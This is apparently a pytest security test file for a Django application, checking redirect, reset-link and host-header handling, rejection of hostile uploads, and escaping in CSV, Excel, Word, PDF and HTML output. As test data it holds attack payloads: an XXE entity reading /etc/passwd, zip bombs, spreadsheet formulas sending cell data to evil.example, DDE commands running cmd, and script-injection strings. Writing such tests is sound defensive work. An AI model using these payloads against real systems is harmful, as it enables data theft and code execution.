"""Everything that comes in from a browser or a file, and everything that goes out to a spreadsheet, Word or a PDF."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import os
import re
import resource
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import openpyxl
import pypdf
import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from collegium.accounts.invitations import one_time_path
from collegium.documents.document import Column, Document, Heading, Paragraph, Table
from collegium.documents.pdf import to_pdf
from collegium.documents.slides import to_slides
from collegium.documents.word import to_word
from collegium.organisation.actions import correct_fact
from collegium.organisation.models import Unit
from collegium.tables.problems import ProblemsError
from collegium.tables.reading import read_table
from collegium.tables.writing import Sheet, write_csv, write_excel
from collegium.wording.dates import day
from tests.attacks.patterns import SOURCE, patterns
from tests.audit.test_protection import ROWS
from tests.conftest import ClientOf
from tests.world import PASSWORD, World

ROOT = Path(__file__).parents[2]
LOGIN = "/account/login/"


@pytest.fixture(autouse=True)
def _forget_attempts() -> None:
    cache.clear()


# Where a sign-in leads

ELSEWHERE = (
    "https://evil.example/", "//evil.example/", "///evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example",
    "http:///evil.example", "https://testserver@evil.example/", "https://testserver.evil.example/", "javascript:alert(1)",
    "data:text/html,x", " //evil.example", "/\t/evil.example", "\n//evil.example", "%2F%2Fevil.example//", "ftp://testserver/",
)  # fmt: skip


@pytest.mark.parametrize("address", ELSEWHERE)
def test_a_sign_in_leads_nowhere_else(world: World, settings: Any, address: str) -> None:
    settings.SECOND_FACTOR_REQUIRED = False
    form = {"login": world.users.doctor.email, "password": PASSWORD, "next": address}
    target = Client().post(LOGIN, form)["Location"]
    as_browsers_read_it = re.sub(r"[\t\r\n]", "", target).strip().replace("\\", "/")
    reached = urlsplit(urljoin(f"http://testserver{LOGIN}", as_browsers_read_it))
    assert (reached.scheme, reached.netloc) == ("http", "testserver")


@pytest.mark.parametrize("address", ELSEWHERE)
def test_a_sign_in_page_offers_no_link_elsewhere(world: World, address: str) -> None:
    page = Client().get(LOGIN, {"next": address}).text
    assert not re.search(r"""(?:href|action)=["']?\s*(?:https?:|javascript:|data:|[/\\]{2})[^"']*evil""", page)
    assert "javascript:" not in re.sub(r'value="[^"]*"', "", page)


# Links that set a password


def follow(address: str) -> str:
    return Client().get(address, follow=True).text


NO_LONGER = "This link no longer works"


@pytest.mark.parametrize("change", ["key", "user", "cut", "longer", "swapped case", "of another account"])
def test_a_link_that_was_tampered_with_opens_nothing(world: World, change: str) -> None:
    path = one_time_path(world.users.doctor)
    user, key = re.search(r"/([0-9A-Za-z]+)-(.+)/$", path).groups()  # type: ignore[union-attr]
    other = re.search(r"/([0-9A-Za-z]+)-", one_time_path(world.users.office))[1]  # type: ignore[index]
    changed = {
        "key": f"{user}-{key[:-1]}{'a' if key[-1] != 'a' else 'b'}",
        "user": f"{user}0-{key}",
        "cut": f"{user}-{key[:-8]}",
        "longer": f"{user}-{key}a",
        "swapped case": f"{user}-{key.swapcase()}",
        "of another account": f"{other}-{key}",
    }[change]
    assert NO_LONGER in follow(path.replace(f"{user}-{key}", changed))
    assert NO_LONGER not in follow(path), "the link itself works"


def test_a_link_is_worthless_after_its_days_and_after_a_sign_in(world: World, settings: Any) -> None:
    path = one_time_path(world.users.doctor)
    settings.PASSWORD_RESET_TIMEOUT = -1
    assert NO_LONGER in follow(path)
    settings.PASSWORD_RESET_TIMEOUT = 3 * 24 * 60 * 60
    assert NO_LONGER not in follow(path)
    Client().post(LOGIN, {"login": world.users.doctor.email, "password": PASSWORD})
    assert NO_LONGER in follow(path)


def test_no_page_is_made_for_another_host(world: World) -> None:
    for host in ("evil.example", "testserver.evil.example", "testserver:80@evil.example"):
        assert Client(HTTP_HOST=host).get(LOGIN).status_code == 400
    assert "evil.example" not in Client(HTTP_X_FORWARDED_HOST="evil.example").get(LOGIN).text


# Files that mean harm

SHEET = "xl/worksheets/sheet1.xml"
ENTITY = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def workbook(**parts: bytes | None) -> bytes:
    """A good workbook, with what was put in place of its parts or beside them."""
    stream = io.BytesIO()
    good = zipfile.ZipFile(io.BytesIO(write_excel([Sheet("units", ("a", "b"), [("x", "y")])])))
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name in good.namelist():
            made.writestr(name, parts.pop(name, None) or good.read(name))
        for name, content in parts.items():
            made.writestr(name, content or b"")
    return stream.getvalue()


def sheet_with(declaration: bytes) -> bytes:
    good = zipfile.ZipFile(io.BytesIO(workbook())).read(SHEET)
    return workbook(**{SHEET: good.replace(b"<worksheet", declaration + b"<worksheet", 1)})


def nested(levels: int) -> bytes:
    """A zip in a zip in a zip."""
    content = b"0" * 10_000_000
    for _ in range(levels):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
            made.writestr("inner.zip", content)
        content = stream.getvalue()
    return content


FILES: dict[str, tuple[str, bytes]] = {
    "a sheet that unpacks to a hundred megabytes": ("a.xlsx", workbook(**{SHEET: b"0" * 100_000_000})),
    "a picture that unpacks to a hundred megabytes": ("a.xlsx", workbook(**{"xl/media/a.png": b"0" * 100_000_000})),
    "ten thousand parts": ("a.xlsx", workbook(**{f"xl/{number}.xml": b"<a/>" for number in range(10_000)})),
    "entities of entities": ("a.xlsx", sheet_with(ENTITY)),
    "an entity from a file": ("a.xlsx", sheet_with(OUTSIDE)),
    "a zip of zips": ("a.xlsx", nested(4)),
    "no zip at all": ("a.xlsx", b"PK\x03\x04" + bytes(range(256)) * 20),
    "a program": ("a.csv", b"MZ\x90\x00\x03" + bytes(200)),
    "a page": ("a.csv", b"<!DOCTYPE html><script>alert(1)</script>"),
    "an old document with macros": ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "a hundred thousand columns": ("a.csv", b",".join(b"c%d" % number for number in range(100_000))),
    "one cell of five megabytes": ("a.csv", b"a,b\n" + b"x" * 5_000_000 + b",y\n"),
    "a quotation mark that never ends": ("a.csv", b'a,b\n"' + b"x,y\n" * 500_000),
    "half of a Parquet file": ("a.parquet", b"PAR1" + bytes(5000) + b"PAR1"),
}


@pytest.mark.parametrize("harm", FILES)
def test_a_file_that_means_harm_is_refused_in_words(harm: str) -> None:
    name, content = FILES[harm]
    with pytest.raises(ProblemsError) as refused:
        read_table(content, name=name)
    assert all(problem.problem and problem.remedy for problem in refused.value.problems)
    assert "root:" not in str(refused.value)


# Patterns


def test_no_pattern_takes_for_ever() -> None:
    """Each pattern of the source, searched in texts that make a bad one go back and forth without end."""
    limit = 120  # seconds of the processor: an exponential pattern needs more than the age of the universe
    done = subprocess.run(
        [sys.executable, "-m", "tests.attacks.patterns"], cwd=ROOT, capture_output=True, text=True, env={**os.environ},
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (limit, limit)),
    )  # fmt: skip
    assert done.returncode == 0, f"never ends: {done.stderr.splitlines()[-1:]}"
    assert int(done.stdout) == len(patterns()[0]) >= 85


def test_patterns_made_while_running_take_what_people_wrote_as_plain_text() -> None:
    """A pattern with a name or a term in it escapes it: nobody brings in a pattern of their own."""
    _, made = patterns()
    for place in made:
        path, _, line = place.partition(":")
        around = "\n".join(
            (SOURCE / path).read_text(encoding="utf-8").splitlines()[max(0, int(line) - 8) : int(line) + 1]
        )
        # Of definition files of ours, which the test above searches in too.
        shipped = any(words in around for words in ("shape.pattern", "in tool.needs", "for pattern in patterns"))
        assert "re.escape" in around or "DIGITS" in around or shipped, place


# What goes out to a spreadsheet

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "＝1+1", "＠SUM(A1)", "＋1+1", "－1+1",  # noqa: RUF001
    '=HYPERLINK("http://evil.example/?"&A1,"look")', "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
RUNS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")  # noqa: RUF001


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_is_run(formula: str) -> None:
    lines = list(csv.reader(io.StringIO(write_csv([formula, "b"], [[formula, 1]]).decode(), newline="")))
    assert not any(RUNS.match(row[0]) for row in lines)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(formula: str) -> None:
    content = write_excel([Sheet(formula, [formula, "b"], [[formula, "http://evil.example/"]])])
    (sheet,) = openpyxl.load_workbook(io.BytesIO(content)).worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist())


def test_only_the_safe_writers_write_tables() -> None:
    """A second writer of CSV or Excel would have to be safe by itself."""
    writers = set()
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and (
                (node.attr in ("writer", "DictWriter") and isinstance(node.value, ast.Name) and node.value.id == "csv")
                or node.attr == "Workbook"
            ):
                writers.add(path.relative_to(SOURCE).as_posix())
    assert writers == {"tables/writing.py", "tables/problems.py"}


@pytest.mark.parametrize(
    "address", ["/organisations/ZNW/record/csv/", "/organisations/ZNW/facts/unit-placement/rows.csv"]
)
def test_a_name_that_is_a_formula_leaves_as_text(world: World, client_of: ClientOf, address: str) -> None:
    unit = Unit.objects.filter(organisation=world.organisation).earliest("pk")
    placement = unit.placements.latest("pk")
    correct_fact(by=world.users.office, fact=placement, values={"name": FORMULAS[-4]}, reason=FORMULAS[0])
    answer = client_of(world.users.office).get(address)
    text = answer.content.decode("utf-8-sig")
    assert "HYPERLINK" in text
    assert not [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if RUNS.match(cell) and "HYPER" in cell
    ]


# What goes out to Word, PowerPoint and PDF

FIELDS = (
    '{ HYPERLINK "http://evil.example" }', "{ INCLUDETEXT C:\\\\secret.txt }", "{ DDEAUTO cmd \"/C calc\" }",
    '</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:t>', '<w:fldSimple w:instr="DDEAUTO cmd"/>',
    "]]><x/>", "&xxe;", "<a:hlinkClick r:id='rId1'/>",
)  # fmt: skip
CODE = (
    '#read("/etc/passwd")', '#include "/etc/passwd"', '#panic("x")', '#link("http://evil.example")[x]', '#eval("1+1")',
    "$sum_(i=0)^oo$", "*strong* _emphasis_", "@label <label>", "= Heading", "```raw```", "\\#escaped", "]#import \"x.typ\"[",
)  # fmt: skip
ON = dt.date(2026, 4, 1)


def document(text: str) -> Document:
    table = Table(text, [Column(text), Column("b")], [[text, text]], text)
    return Document(
        title=text,
        organisation=text,
        date=ON,
        author=text,
        subtitle=text,
        abstract=text,
        blocks=[Heading(1, text), Paragraph(text), table],
    )


@pytest.mark.parametrize("text", [*FIELDS, *FORMULAS[:1], *CODE[:2]])
@pytest.mark.parametrize("write", [to_word, to_slides])
def test_no_field_nor_link_gets_into_an_office_file(text: str, write: Any) -> None:
    with (
        zipfile.ZipFile(io.BytesIO(write(document("plain")))) as plain,
        zipfile.ZipFile(io.BytesIO(write(document(text)))) as made,
    ):
        for name in made.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            content, before = made.read(name).decode(), plain.read(name).decode() if name in plain.namelist() else ""
            for mark in (
                "<w:instrText",
                "<w:fldSimple",
                "<w:hyperlink",
                "<a:hlinkClick",
                'TargetMode="External"',
                "<!DOCTYPE",
            ):
                assert content.count(mark) == before.count(mark), (name, mark)


@pytest.mark.parametrize("text", CODE)
def test_what_people_wrote_is_never_code_of_a_pdf(text: str) -> None:
    made = pypdf.PdfReader(io.BytesIO(to_pdf(document(text))))
    shown = "".join(page.extract_text() for page in made.pages)
    assert re.sub(r"\W", "", text) in re.sub(r"\W", "", shown), "it is there, sign by sign"
    assert "root:" not in shown
    links = [each for page in made.pages for each in page.get("/Annots") or [] if "/URI" in str(each.get_object())]
    assert links == []
    assert day(ON) in shown


# What every page says to browsers


def test_headers_that_keep_pages_to_themselves(world: World, client_of: ClientOf) -> None:
    for client, address in ((Client(), LOGIN), (client_of(world.users.office), reverse("home"))):
        headers = client.get(address).headers
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["X-Content-Type-Options"] == "nosniff"
        policy = headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "unsafe-inline" not in policy
        assert "unsafe-eval" not in policy


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "{% include 'x' %}"]
)
def test_what_people_wrote_is_never_markup_or_template(world: World, client_of: ClientOf, text: str) -> None:
    person = world.people["P01"]
    correct_fact(by=world.users.office, fact=person, values={"name": text}, reason=text)
    client = client_of(world.users.office)
    for address in (person.get_absolute_url(), "/organisations/ZNW/record/"):
        page = client.get(address).text
        assert text not in page or "{" in text, address
        assert ">49<" not in page


def test_the_page_about_security_counts_what_is_here() -> None:
    text = (ROOT / "docs" / "explanation" / "security.md").read_text(encoding="utf-8")
    rows = {
        line.split("|")[1].strip(): line.split("|")[2].strip() for line in text.splitlines() if line.startswith("| ")
    }
    wanted = {
        "`next` of the sign-in": 2 * len(ELSEWHERE),
        "CSV": len(FORMULAS),
        "Excel": len(FORMULAS),
        "Word and PowerPoint": 2 * (len(FIELDS) + 3),
        "PDF": len(CODE),
    }
    assert {name: int(rows[name].split()[0]) for name in wanted} == wanted
    files = next(count for name, count in rows.items() if name.startswith("files:"))
    assert int(files) == len(FILES)
    assert f"one case for each of {len(ROWS)} tables" in text
